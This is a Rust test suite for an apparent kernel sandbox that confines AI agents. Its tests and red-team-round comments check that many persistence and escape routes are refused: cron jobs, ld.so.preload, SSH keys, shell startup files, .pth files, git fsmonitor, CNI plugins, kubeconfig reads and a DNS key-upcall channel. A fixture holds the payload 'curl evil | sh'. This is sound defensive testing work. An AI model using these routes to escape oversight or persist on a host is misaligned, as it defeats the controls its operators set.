        "/var/lib/containers/storage/overlay/gov-rt/merged/bin",
        "/etc/cron.d",
        "/etc/systemd/system/multi-user.target.wants",
        "/root/.ssh",
        "/root/.local/lib/python3.11/site-packages",
        "/opt/cni/bin",
        "/gov-rt-src",
        "/home/gov-rt-user/.ssh",
        "/home/gov-rt-user/.local/bin",
        "/home/gov-rt-user/.local/share",
        "/home/gov-rt-user/.config/git",
    ] {
        std::fs::create_dir_all(dir).unwrap();
    }
    // Another user, whose logins and programs run their home's startup and configuration files
    // outside every agent; and one whose home does not exist.
    // (The VM's image has no /etc/passwd: root's home is protected without root's line.)
    let passwd = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
    std::fs::write(
        "/etc/passwd",
        format!(
            "{passwd}gov-rt-user:x:4242:4242::/home/gov-rt-user:/bin/sh\n\
             gov-rt-absent:x:4243:4243::/home/gov-rt-absent:/bin/sh\n"
        ),
    )
    .unwrap();
    let conf = Path::new("/etc/gov-rt.conf");
    let job = Path::new("/gov-rt-src/job");
    // A filesystem mounted below container storage (a pod's volume, a container's rootfs),
    // which the identity resolution does not list: found in the mount table (red team round
    // 11: unlink, truncate, chmod there went by the agent's default).
    // The orchestrator's credentials (a kubeadm node's admin kubeconfig).
    let made_kube = !Path::new("/etc/kubernetes").exists();
    let admin = Path::new("/etc/kubernetes/gov-rt-admin.conf");
    std::fs::create_dir_all("/etc/kubernetes").unwrap();
    std::fs::write(admin, "apiVersion: v1\nkind: Config\n").unwrap();
    let volume = Path::new("/var/lib/containers/storage/gov-rt-volume");
    std::fs::create_dir_all(volume).unwrap();
    mount_tmpfs(volume);
    // Root services' command FIFOs (systemd's initctl, dmeventd's), made before the load as
    // their socket units make them, and a mail system's queue (red team round 21).
    let fifos = [Path::new("/run/initctl"), Path::new("/run/dmeventd-client")];
    for fifo in fifos {
        let _ = std::fs::remove_file(fifo);
        nix::unistd::mkfifo(fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    }
    let made_postfix = !Path::new("/var/spool/postfix").exists();
    std::fs::create_dir_all("/var/spool/postfix/maildrop").unwrap();
    let made_apt = !Path::new("/var/lib/apt").exists();
    std::fs::create_dir_all("/var/lib/apt/lists").unwrap();
    // The resolver's configuration where /etc/resolv.conf is a symlink (resolvconf's,
    // NetworkManager's, netconfig's): written through /etc's name, the file opened is the
    // target's (red team round 26). Test names, beside the VM's own /etc.
    let resolv_dir = Path::new("/run/gov-rt-resolv");
    std::fs::create_dir_all(resolv_dir).unwrap();
    let resolv = resolv_dir.join("resolv.conf");
    for (link, to) in [
        ("/etc/gov-rt-resolv.conf", resolv.clone()),
        ("/etc/gov-rt-later.conf", resolv_dir.join("later.conf")),
    ] {
        let _ = std::fs::remove_file(link);
        std::os::unix::fs::symlink(to, link).unwrap();
    }
    let data = volume.join("data");
    let reset = || {
        std::fs::write(&resolv, "nameserver 10.0.0.53\n").unwrap();
        std::fs::write(conf, "setting\n").unwrap();
        std::fs::write(job, "* * * * * root /gov-rt-src/x\n").unwrap();
        let _ = std::fs::create_dir("/etc/cron.d/gov-rt-empty");
        std::fs::write(&data, "a volume's data\n").unwrap();
    };
    reset();
    let mut k = fx.load("");
    // Made after the load (as an agent may make it): refused whole, by its path.
    std::fs::create_dir_all("/home/gov-rt-absent").unwrap();
    for hook in [
        "inode_symlink",
        "inode_mkdir",
        "path_mknod",
        "inode_link",
        "inode_rename",
        "unlink_protected",
        "path_truncate",
        "inode_rmdir",
        "path_chmod",
        "path_chown",
    ] {
        k.require(hook);
    }
    let c = |p: &str| cstr(Path::new(p));
    let create = libc::O_WRONLY | libc::O_CREAT;
    let cases: Vec<(&str, Attempt, Kind, Option<u8>, &str)> = vec![
        (
            "45 cron job written into /etc/cron.d",
            Attempt::Open {
                path: c("/etc/cron.d/gov-rt"),
                flags: create,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/etc/cron.d/gov-rt",
        ),
        (
            "45 loader preload list created (/etc/ld.so.preload)",
            Attempt::Open {
                path: c("/etc/ld.so.preload"),
                flags: create | libc::O_APPEND,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/etc/ld.so.preload",
        ),
        (
            "45 a unit enabled by a symlink in /etc/systemd",
            Attempt::Symlink {
                target: cstr(job),
                path: c("/etc/systemd/system/multi-user.target.wants/gov-rt.service"),
            },
            Kind::Link,
            Some(governance_common::LINK_OP_SYMLINK),
            "/etc/systemd/system/multi-user.target.wants/gov-rt.service",
        ),
        (
            "45 a cron job moved into /etc/cron.d (rename)",
            Attempt::Rename {
                from: cstr(job),
                to: c("/etc/cron.d/gov-rt-moved"),
            },
            Kind::Link,
            Some(governance_common::LINK_OP_RENAME),
            "/etc/cron.d/gov-rt-moved",
        ),
        (
            "45 a cron job hard-linked into /etc/cron.d",
            Attempt::Link {
                from: cstr(job),
                to: c("/etc/cron.d/gov-rt-linked"),
            },
            Kind::Link,
            Some(governance_common::LINK_OP_LINK),
            "/etc/cron.d/gov-rt-linked",
        ),
        (
            "45 a directory made in /etc/cron.d",
            Attempt::Mkdir {
                path: c("/etc/cron.d/gov-rt-dir"),
            },
            Kind::Link,
            Some(governance_common::LINK_OP_MKDIR),
            "/etc/cron.d/gov-rt-dir",
        ),
        (
            "45 a FIFO made in /etc by mknod",
            Attempt::Mknod {
                path: c("/etc/gov-rt-fifo"),
                mode: libc::S_IFIFO | 0o600,
                dev: 0,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_MKNOD),
            "/etc/gov-rt-fifo",
        ),
        (
            "45 a program written into /usr/bin",
            Attempt::Open {
                path: c("/usr/bin/gov-rt"),
                flags: create,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/usr/bin/gov-rt",
        ),
        (
            "45 root's SSH keys written",
            Attempt::Open {
                path: c("/root/.ssh/authorized_keys"),
                flags: create | libc::O_APPEND,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/root/.ssh/authorized_keys",
        ),
        (
            "45 root's shell startup file written",
            Attempt::Open {
                path: c("/root/.profile"),
                flags: create | libc::O_APPEND,
            },
            // Missing at the load: refused by its name before it exists (round 6).
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/root/.profile",
        ),
        (
            "45 another user's SSH keys written",
            Attempt::Open {
                path: c("/home/gov-rt-user/.ssh/authorized_keys"),
                flags: create | libc::O_APPEND,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/home/gov-rt-user/.ssh/authorized_keys",
        ),
        (
            "45 another user's shell startup file written",
            Attempt::Open {
                path: c("/home/gov-rt-user/.bashrc"),
                flags: create | libc::O_APPEND,
            },
            // Missing at the load: refused by its name before it exists (round 6).
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/home/gov-rt-user/.bashrc",
        ),
        (
            "45 a .pth file in root's Python user site (it runs in every Python started)",
            Attempt::Open {
                path: c("/root/.local/lib/python3.11/site-packages/gov-rt.pth"),
                flags: create,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/root/.local/lib/python3.11/site-packages/gov-rt.pth",
        ),
        (
            "45 root's git configuration written (core.fsmonitor runs at the next git status)",
            Attempt::Open {
                path: c("/root/.gitconfig"),
                flags: create | libc::O_APPEND,
            },
            // Missing at the load: refused by its name before it exists (round 6).
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/root/.gitconfig",
        ),
        (
            "45 another user's git configuration in ~/.config written",
            Attempt::Open {
                path: c("/home/gov-rt-user/.config/git/config"),
                flags: create | libc::O_APPEND,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/home/gov-rt-user/.config/git/config",
        ),
        (
            "45 a program put first on another user's PATH (~/.local/bin)",
            Attempt::Open {
                path: c("/home/gov-rt-user/.local/bin/ls"),
                flags: create,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/home/gov-rt-user/.local/bin/ls",
        ),
        (
            "45 a CNI plugin written into /opt/cni/bin (run as root for every pod)",
            Attempt::Open {
                path: c("/opt/cni/bin/gov-rt"),
                flags: create,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/opt/cni/bin/gov-rt",
        ),
        (
            "45 a startup file in a home /etc/passwd named but nobody had made at the load",
            Attempt::Open {
                path: c("/home/gov-rt-absent/.bashrc"),
                flags: create,
            },
            Kind::File,
            None,
            "/home/gov-rt-absent/.bashrc",
        ),
        (
            "R26 the resolver's configuration written through /etc's symlink",
            Attempt::Open {
                path: c("/etc/gov-rt-resolv.conf"),
                flags: libc::O_WRONLY | libc::O_TRUNC,
            },
            Kind::File,
            None,
            "",
        ),
        (
            "R26 a file made where a symlink in /etc leads (missing at the load)",
            Attempt::Open {
                path: c("/etc/gov-rt-later.conf"),
                flags: create,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/run/gov-rt-resolv/later.conf",
        ),
        (
            "45 truncate(2) of a file in /etc",
            Attempt::Truncate { path: cstr(conf) },
            Kind::Link,
            Some(governance_common::LINK_OP_TRUNCATE),
            "",
        ),
        (
            "45 unlink of a file in /etc",
            Attempt::Unlink { path: cstr(conf) },
            Kind::Link,
            Some(governance_common::LINK_OP_UNLINK),
            "",
        ),
        (
            "R5 an empty regular file made in /etc/cron.d by mknod",
            Attempt::Mknod {
                path: c("/etc/cron.d/gov-rt-regular"),
                mode: libc::S_IFREG | 0o600,
                dev: 0,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/etc/cron.d/gov-rt-regular",
        ),
        (
            "R5 chmod of a file in /etc",
            Attempt::Chmod {
                path: cstr(conf),
                mode: 0o4777,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CHMOD),
            "",
        ),
        (
            "R5 chown of a file in /etc",
            Attempt::Chown {
                path: cstr(conf),
                uid: 4242,
                gid: 4242,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CHOWN),
            "",
        ),
        (
            "R6 an ACL that takes every permission from a file in /etc (a chmod to 0)",
            Attempt::SetXattr {
                path: cstr(conf),
                name: c"system.posix_acl_access".to_owned(),
                // version 2; USER_OBJ, GROUP_OBJ, OTHER, each with no permission.
                value: [
                    &2u32.to_le_bytes()[..],
                    &[1, 0, 0, 0, 0xff, 0xff, 0xff, 0xff],
                    &[4, 0, 0, 0, 0xff, 0xff, 0xff, 0xff],
                    &[0x20, 0, 0, 0, 0xff, 0xff, 0xff, 0xff],
                ]
                .concat(),
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CHMOD),
            "",
        ),
        (
            "R6 file capabilities on a file in /etc (whoever runs it gets them)",
            Attempt::SetXattr {
                path: cstr(conf),
                name: c"security.capability".to_owned(),
                // VFS_CAP_REVISION_2, effective; CAP_SETUID permitted.
                value: [
                    &0x0200_0001u32.to_le_bytes()[..],
                    &(1u32 << 7).to_le_bytes(),
                    &0u32.to_le_bytes(),
                    &0u32.to_le_bytes(),
                    &0u32.to_le_bytes(),
                ]
                .concat(),
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CHMOD),
            "",
        ),
        (
            "R8 modprobe's runtime configuration made (/run/modprobe.d: install lines run at \
             the next module load, by anyone)",
            Attempt::Mkdir {
                path: c("/run/modprobe.d"),
            },
            Kind::Link,
            Some(governance_common::LINK_OP_MKDIR),
            "/run/modprobe.d",
        ),
        (
            "R15 cloud-init's state made (/var/lib/cloud: per-boot scripts run as root at the \
             next boot)",
            Attempt::Mkdir {
                path: c("/var/lib/cloud"),
            },
            Kind::Link,
            Some(governance_common::LINK_OP_MKDIR),
            "/var/lib/cloud",
        ),
        (
            "R15 a user's service manager's units made (~/.local/share/systemd)",
            Attempt::Mkdir {
                path: c("/home/gov-rt-user/.local/share/systemd"),
            },
            Kind::Link,
            Some(governance_common::LINK_OP_MKDIR),
            "/home/gov-rt-user/.local/share/systemd",
        ),
        (
            "R15 container device specifications made (/run/cdi: their hooks run as root)",
            Attempt::Mkdir {
                path: c("/run/cdi"),
            },
            Kind::Link,
            Some(governance_common::LINK_OP_MKDIR),
            "/run/cdi",
        ),
        (
            "R15 snapd's state made (/var/lib/snapd: its images are mounted and run at boot)",
            Attempt::Mkdir {
                path: c("/var/lib/snapd"),
            },
            Kind::Link,
            Some(governance_common::LINK_OP_MKDIR),
            "/var/lib/snapd",
        ),
        (
            "R21 a runlevel written to systemd's /run/initctl FIFO",
            Attempt::Open {
                path: c("/run/initctl"),
                // (A FIFO opened for reading and writing does not wait for a reader.)
                flags: libc::O_RDWR,
            },
            Kind::File,
            None,
            "",
        ),
        (
            "R21 a registration written to dmeventd's FIFO (it loads the library it names)",
            Attempt::Open {
                path: c("/run/dmeventd-client"),
                flags: libc::O_RDWR,
            },
            Kind::File,
            None,
            "",
        ),
        (
            "R21 a message queued for the mail system (/var/spool/postfix/maildrop)",
            Attempt::Open {
                path: c("/var/spool/postfix/maildrop/gov-rt"),
                flags: create,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/var/spool/postfix/maildrop/gov-rt",
        ),
        (
            "R21 a package list planted for apt (/var/lib/apt/lists)",
            Attempt::Open {
                path: c("/var/lib/apt/lists/gov-rt_Packages"),
                flags: create,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/var/lib/apt/lists/gov-rt_Packages",
        ),
        (
            "R8 a program written into another container's root filesystem",
            Attempt::Open {
                path: c("/var/lib/containers/storage/overlay/gov-rt/merged/bin/sh"),
                flags: create,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CREATE),
            "/var/lib/containers/storage/overlay/gov-rt/merged/bin/sh",
        ),
        (
            "R11 truncate(2) of a file on a filesystem mounted below container storage",
            Attempt::Truncate { path: cstr(&data) },
            Kind::Link,
            Some(governance_common::LINK_OP_TRUNCATE),
            "",
        ),
        (
            "R11 unlink of a file on a filesystem mounted below container storage",
            Attempt::Unlink { path: cstr(&data) },
            Kind::Link,
            Some(governance_common::LINK_OP_UNLINK),
            "",
        ),
        (
            "R11 setuid chmod of a file on a filesystem mounted below container storage",
            Attempt::Chmod {
                path: cstr(&data),
                mode: 0o4755,
            },
            Kind::Link,
            Some(governance_common::LINK_OP_CHMOD),
            "",
        ),
        (
            "R5 an empty directory removed from /etc/cron.d",
            new_name(
                None,
                7,
                Path::new("/etc/cron.d/gov-rt-empty"),
                Path::new("/"),
            ),
            Kind::Link,
            Some(governance_common::LINK_OP_RMDIR),
            "",
        ),
    ];
    for (case, attempt, kind, op, made) in &cases {
        let ev = deny(&mut k, &fx, case, attempt, *kind, Control::Succeeds);
        // A built-in refusal: no rule of the policy (rule number 0).
        assert_eq!(
            governance_common::id_number(ev.rule_id),
            0,
            "{case}: a built-in refusal"
        );
        if let Some(op) = op {
            assert_eq!(ev.detail, *op, "{case}: the operation");
        }
        // Undo what the control made.
        if !made.is_empty() {
            let p = Path::new(made);
            let _ = std::fs::remove_dir(p).or_else(|_| std::fs::remove_file(p));
        }
        reset();
    }
    // Control: an agent's own data in ~/.local/share (uv's, pipx's) is not refused.
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::Mkdir {
            path: c("/home/gov-rt-user/.local/share/uv"),
        },
    );
    assert_eq!(outcome, Outcome::Exited(0), "~/.local/share/uv");
    // Reading is not refused.
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::Open {
            path: cstr(conf),
            flags: libc::O_RDONLY,
        },
    );
    assert_eq!(outcome, Outcome::Exited(0), "reading /etc stays allowed");
    // The rest of a home stays writable (work files, caches).
    for path in ["/home/gov-rt-user/notes.txt", "/root/.gov-rt-cache"] {
        let (_, outcome) = run_in(
            Some(&fx.agent.path),
            "agent",
            &Attempt::Open {
                path: c(path),
                flags: create,
            },
        );
        assert_eq!(
            outcome,
            Outcome::Exited(0),
            "{path}: a home's other files stay writable"
        );
        let _ = std::fs::remove_file(path);
    }
    // A directory that holds protected names (root's ~/.local holds ~/.local/lib and the
    // missing ~/.local/bin) may not be removed: emptied and removed, it could be made again as
    // a symlink to anywhere (red team round 12). Refused before the filesystem looks whether
    // it is empty; the control gets ENOTEMPTY.
    let ev = deny_errno(
        &mut k,
        &fx,
        "R12 rmdir of a directory holding protected names",
        &new_name(None, 7, Path::new("/root/.local"), Path::new("/")),
        libc::EPERM,
        Kind::Link,
        Control::NotEperm,
    );
    assert_eq!(ev.detail, governance_common::LINK_OP_RMDIR);
    assert!(Path::new("/root/.local").is_dir());
    // Nor replaced by a directory renamed over it (red team round 14: `mv -T ~/w/x ~/.local`
    // over an emptied one). The control gets ENOTEMPTY.
    let over = Path::new("/root/gov-rt-over");
    std::fs::create_dir_all(over.join("bin")).unwrap();
    let ev = deny_errno(
        &mut k,
        &fx,
        "R14 a directory renamed over a directory holding protected names",
        &Attempt::rename(over, Path::new("/root/.local")),
        libc::EPERM,
        Kind::Link,
        Control::NotEperm,
    );
    assert_eq!(ev.detail, governance_common::LINK_OP_RENAME);
    let _ = std::fs::remove_dir_all(over);
    // The orchestrator's credentials are refused for reading (red team round 11: with them
    // the API server runs a pod outside the agent), unless a policy allows runtime sockets.
    let read_admin = Attempt::Open {
        path: cstr(admin),
        flags: libc::O_RDONLY,
    };
    let ev = deny(
        &mut k,
        &fx,
        "R11 the orchestrator's admin credentials read",
        &read_admin,
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(governance_common::id_number(ev.rule_id), 0, "a built-in");
    k.reload(&fx.policy("kernel: { allow_runtime_sockets: true }\n"));
    let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &read_admin);
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "read when runtime sockets are allowed"
    );
    // One mounted after the load is covered from the next generation on (the daemon builds
    // one when the mounts below unlisted directories change).
    let later = Path::new("/var/lib/containers/storage/gov-rt-later");
    std::fs::create_dir_all(later).unwrap();
    mount_tmpfs(later);
    std::fs::write(later.join("data"), "x").unwrap();
    k.reload(&fx.policy(""));
    deny(
        &mut k,
        &fx,
        "R11 unlink on a filesystem mounted below container storage after the load",
        &Attempt::Unlink {
            path: cstr(&later.join("data")),
        },
        Kind::Link,
        Control::Succeeds,
    );
    // A policy that allows system files gives all of it back.
    k.reload(&fx.policy("kernel: { allow_system_files: true }\n"));
    for (case, attempt, _, _, made) in &cases {
        let (_, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
        assert_eq!(outcome, Outcome::Exited(0), "{case}: allowed when relaxed");
        if !made.is_empty() {
            let p = Path::new(made);
            let _ = std::fs::remove_dir(p).or_else(|_| std::fs::remove_file(p));
        }
        reset();
    }
    for p in [
        "/gov-rt-src/job",
        "/etc/gov-rt.conf",
        "/etc/gov-rt-resolv.conf",
        "/etc/gov-rt-later.conf",
    ] {
        let _ = std::fs::remove_file(p);
    }
    let _ = std::fs::remove_dir_all(resolv_dir);
    let _ = std::fs::remove_dir("/gov-rt-src");
    if passwd.is_empty() {
        let _ = std::fs::remove_file("/etc/passwd");
    } else {
        std::fs::write("/etc/passwd", passwd).unwrap();
    }
    let _ = std::fs::remove_dir_all("/home/gov-rt-user");
    let _ = std::fs::remove_dir("/home/gov-rt-absent");
    if made_local {
        let _ = std::fs::remove_dir_all("/root/.local");
    }
    if made_cni {
        let _ = std::fs::remove_dir_all("/opt/cni");
    }
    let _ = std::fs::remove_file(admin);
    if made_kube {
        let _ = std::fs::remove_dir("/etc/kubernetes");
    }
    for fifo in fifos {
        let _ = std::fs::remove_file(fifo);
    }
    if made_postfix {
        let _ = std::fs::remove_dir_all("/var/spool/postfix");
    }
    if made_apt {
        let _ = std::fs::remove_dir_all("/var/lib/apt");
    }
    for mounted in [volume, later] {
        unmount(mounted);
        let _ = std::fs::remove_dir(mounted);
    }
    if made_containers {
        let _ = std::fs::remove_dir_all("/var/lib/containers");
    }
    if made_run {
        let _ = std::fs::remove_dir("/run");
    }
}

/// Red team round 5, F1: a protected path that does not exist when the policy loads has no
/// identity, so a new name made at it without an open (a rename, a hard link, a symlink, a
/// directory, a FIFO) was judged only by the directories above it: `/root` has no rule, and
/// root's next login ran the agent's `.profile`. Each such path's name now has an entry under
/// its deepest existing directory (`SCOPE_NAME`), which every new name is looked up in: in
/// root's home, in another user's, a home /etc/passwd names that does not exist (refused
/// whole: the agent's directory moved there would be that user's home), a missing directory
/// on the way to a protected path (`~/.local` for `~/.local/bin`), and a policy rule's missing
/// path (refused as the rule). Each refusal has its control outside the agent; the agent still
/// makes ordinary files, directories and links in those homes, and ordinary names elsewhere.
#[test]
fn missing_protected_names_are_refused_by_their_names() {
    require_root();
    let fx = Fixture::new("names-missing");
    let src = Path::new("/gov-rt-names-src");
    let (user, nohome) = ("/home/gov-rt-named", "/home/gov-rt-nohome");
    std::fs::create_dir_all(user).unwrap();
    // Root's login files that exist in the image are set aside for the test: the case is a
    // missing one.
    let root_names = [
        ".profile",
        ".bash_profile",
        ".config",
        ".kube",
        ".zshenv",
        ".local",
    ];
    let mut set_aside = Vec::new();
    for name in root_names {
        let p = Path::new("/root").join(name);
        if p.symlink_metadata().is_ok() {
            let aside = Path::new("/root").join(format!("{name}.gov-rt-aside"));
            std::fs::rename(&p, &aside).unwrap();
            set_aside.push((p, aside));
        }
    }
    // (The VM's image has no /etc/passwd, nor /etc before a test makes it.)
    std::fs::create_dir_all("/etc").unwrap();
    let passwd = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
    std::fs::write(
        "/etc/passwd",
        format!(
            "{passwd}gov-rt-named:x:4252:4252::{user}:/bin/sh\n\
             gov-rt-nohome:x:4253:4253::{nohome}:/bin/sh\n"
        ),
    )
    .unwrap();
    let payload = src.join("payload");
    let dir = src.join("dir");
    let mine = fx.p("mine.txt");
    let reset = || {
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(&payload, "curl evil | sh\n").unwrap();
        std::fs::write(&mine, "mine\n").unwrap();
    };
    reset();
    let d = fx.dir.display();
    let mut k = fx.load(&format!(
        "\x20 - {{ id: vault, file: {{ prefix: {d}/vault-missing }}, verdict: block, reason: not there yet }}\n"
    ));
    for hook in [
        "inode_symlink",
        "inode_mkdir",
        "path_mknod",
        "inode_link",
        "inode_rename",
    ] {
        k.require(hook);
    }
    use governance_common::{
        LINK_OP_CREATE as CREATE, LINK_OP_LINK as LINK, LINK_OP_MKDIR as MKDIR,
        LINK_OP_MKNOD as MKNOD, LINK_OP_RENAME as RENAME, LINK_OP_SYMLINK as SYMLINK,
    };
    let c = |p: &str| cstr(Path::new(p));
    let rename = |from: &Path, to: &str| Attempt::Rename {
        from: cstr(from),
        to: c(to),
    };
    let link = |to: &str| Attempt::Link {
        from: cstr(&payload),
        to: c(to),
    };
    let symlink = |path: &str| Attempt::Symlink {
        target: cstr(&dir),
        path: c(path),
    };
    let mkdir = |path: &str| Attempt::Mkdir { path: c(path) };
    let vault = format!("{d}/vault-missing");
    let cases: Vec<(&str, Attempt, u8, String)> = vec![
        (
            "R5 F1 a payload renamed to root's missing .profile",
            rename(&payload, "/root/.profile"),
            RENAME,
            "/root/.profile".into(),
        ),
        (
            "R5 F1 a payload hard-linked as root's missing .bash_profile",
            link("/root/.bash_profile"),
            LINK,
            "/root/.bash_profile".into(),
        ),
        (
            "R5 F1 root's missing ~/.config a symlink to the agent's directory",
            symlink("/root/.config"),
            SYMLINK,
            "/root/.config".into(),
        ),
        (
            "R5 F1 root's missing ~/.kube made by mkdir",
            mkdir("/root/.kube"),
            MKDIR,
            "/root/.kube".into(),
        ),
        (
            "R5 F1 root's missing ~/.zshenv made by mknod (a FIFO)",
            Attempt::Mknod {
                path: c("/root/.zshenv"),
                mode: libc::S_IFIFO | 0o600,
                dev: 0,
            },
            MKNOD,
            "/root/.zshenv".into(),
        ),
        (
            "R5 F1 root's missing ~/.local (on the way to ~/.local/bin) made by mkdir",
            mkdir("/root/.local"),
            MKDIR,
            "/root/.local".into(),
        ),
        (
            "R5 F1 a payload renamed to another user's missing .bashrc",
            rename(&payload, "/home/gov-rt-named/.bashrc"),
            RENAME,
            "/home/gov-rt-named/.bashrc".into(),
        ),
        (
            "R5 F1 a payload hard-linked as another user's missing .zshrc",
            link("/home/gov-rt-named/.zshrc"),
            LINK,
            "/home/gov-rt-named/.zshrc".into(),
        ),
        (
            "R5 F1 another user's missing ~/.ssh a symlink to the agent's directory",
            symlink("/home/gov-rt-named/.ssh"),
            SYMLINK,
            "/home/gov-rt-named/.ssh".into(),
        ),
        (
            "R5 F1 another user's missing ~/.config made by mkdir",
            mkdir("/home/gov-rt-named/.config"),
            MKDIR,
            "/home/gov-rt-named/.config".into(),
        ),
        (
            "R6 an empty regular file made by mknod at root's missing .bash_profile (then linked out and written)",
            Attempt::Mknod {
                path: c("/root/.bash_profile"),
                mode: libc::S_IFREG | 0o644,
                dev: 0,
            },
            CREATE,
            "/root/.bash_profile".into(),
        ),
        (
            "R6 root's missing .zshenv created by an open's O_CREAT (refused before it exists)",
            Attempt::Open {
                path: c("/root/.zshenv"),
                flags: libc::O_WRONLY | libc::O_CREAT,
            },
            CREATE,
            "/root/.zshenv".into(),
        ),
        (
            "R5 F1 the agent's directory renamed to a home /etc/passwd names (missing)",
            rename(&dir, nohome),
            RENAME,
            nohome.into(),
        ),
        (
            "R5 F1 a home /etc/passwd names (missing) made by mkdir",
            mkdir(nohome),
            MKDIR,
            nohome.into(),
        ),
        (
            "R5 F1 a home /etc/passwd names (missing) a symlink to the agent's directory",
            symlink(nohome),
            SYMLINK,
            nohome.into(),
        ),
    ];
    for (case, attempt, op, made) in &cases {
        let ev = deny(&mut k, &fx, case, attempt, Kind::Link, Control::Succeeds);
        assert_eq!(ev.detail, *op, "{case}: the operation");
        assert_eq!(ev.cause, Cause::Builtin as u8, "{case}: a built-in refusal");
        assert_eq!(
            governance_common::id_number(ev.rule_id),
            0,
            "{case}: no rule of the policy"
        );
        // Undo what the control made.
        let p = Path::new(made);
        if p.symlink_metadata().is_ok_and(|m| m.is_dir()) {
            std::fs::remove_dir(p).unwrap();
        } else {
            let _ = std::fs::remove_file(p);
        }
        reset();
    }
    // A file made at a missing protected name since the load (here by a process outside the
    // agent) keeps that name: linked or renamed elsewhere by the agent, it would be written
    // under a name no rule reads (red team round 6).
    // (On the same filesystem as /root: a link across filesystems fails with EXDEV first.)
    let out = Path::new("/root/gov-rt-linked-out");
    for (case, attempt) in [
        (
            "R6 root's .bash_profile, made since the load, hard-linked out",
            Attempt::Link {
                from: c("/root/.bash_profile"),
                to: cstr(out),
            },
        ),
        (
            "R6 root's .bash_profile, made since the load, renamed out",
            rename(Path::new("/root/.bash_profile"), out.to_str().unwrap()),
        ),
    ] {
        std::fs::write("/root/.bash_profile", "").unwrap();
        let ev = deny(&mut k, &fx, case, &attempt, Kind::Link, Control::Succeeds);
        assert_eq!(ev.cause, Cause::Builtin as u8, "{case}: a built-in refusal");
        let _ = std::fs::remove_file("/root/.bash_profile");
        let _ = std::fs::remove_file(out);
    }
    // A policy rule's missing path: refused as the rule.
    let ev = deny(
        &mut k,
        &fx,
        "R5 F1 a file renamed to a blocked path that does not exist yet",
        &rename(&mine, &vault),
        Kind::Link,
        Control::Succeeds,
    );
    assert_eq!(ev.cause, Cause::Rule as u8, "a policy rule's refusal");
    assert_ne!(governance_common::id_number(ev.rule_id), 0);
    let _ = std::fs::remove_file(&vault);
    reset();
    // Ordinary names in those homes and elsewhere stay the agent's.
    let ordinary: Vec<(&str, Attempt, &str)> = vec![
        (
            "an ordinary file renamed into root's home",
            rename(&payload, "/root/gov-rt-notes"),
            "/root/gov-rt-notes",
        ),
        (
            "an ordinary directory in another user's home",
            mkdir("/home/gov-rt-named/projects"),
            "/home/gov-rt-named/projects",
        ),
        (
            "an ordinary symlink in another user's home",
            symlink("/home/gov-rt-named/link"),
            "/home/gov-rt-named/link",
        ),
        (
            "an ordinary hard link in root's home",
            link("/root/gov-rt-linked"),
            "/root/gov-rt-linked",
        ),
        (
            "an ordinary file created in another user's home",
            Attempt::Open {
                path: c("/home/gov-rt-named/notes.txt"),
                flags: libc::O_WRONLY | libc::O_CREAT,
            },
            "/home/gov-rt-named/notes.txt",
        ),
        (
            "an ordinary directory in /home",
            mkdir("/home/gov-rt-other"),
            "/home/gov-rt-other",
        ),
        (
            "a name beside the blocked missing path",
            rename(&mine, &format!("{d}/vault-missing.txt")),
            "",
        ),
    ];
    for (case, attempt, made) in &ordinary {
        let (_, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
        assert_eq!(outcome, Outcome::Exited(0), "{case}: allowed in the agent");
        let p = Path::new(made);
        if !made.is_empty() {
            if p.symlink_metadata().is_ok_and(|m| m.is_dir()) {
                std::fs::remove_dir(p).unwrap();
            } else {
                let _ = std::fs::remove_file(p);
            }
        }
        reset();
    }
    let _ = std::fs::remove_file(format!("{d}/vault-missing.txt"));
    drop(k);
    if passwd.is_empty() {
        let _ = std::fs::remove_file("/etc/passwd");
    } else {
        std::fs::write("/etc/passwd", passwd).unwrap();
    }
    for (p, aside) in set_aside {
        std::fs::rename(aside, p).unwrap();
    }
    let _ = std::fs::remove_dir_all(src);
    let _ = std::fs::remove_dir_all(user);
}

/// Issue 12, class 4 (others acting for the agent), by reading the kernel's usermode helpers:
/// `request_key("dns_resolver", NAME)` makes the kernel run /sbin/key.dns_resolver outside
/// every cgroup, which asks the node's resolver for NAME (a DNS channel past the agent's
/// network rules); the NFS and CIFS key types are upcalls too. Keys of types not known to stay
/// in the kernel are refused to agents where they are made (`key_alloc`). A type the kernel
/// has not loaded yet needs its module first, which agents may not autoload: either guard
/// refuses it. Local keys (`user`) still work in the agent.
#[test]
fn key_upcalls_are_refused() {
    require_root();
    let fx = Fixture::new("keys");
    let mut k = fx.load("");
    k.require("key_alloc");
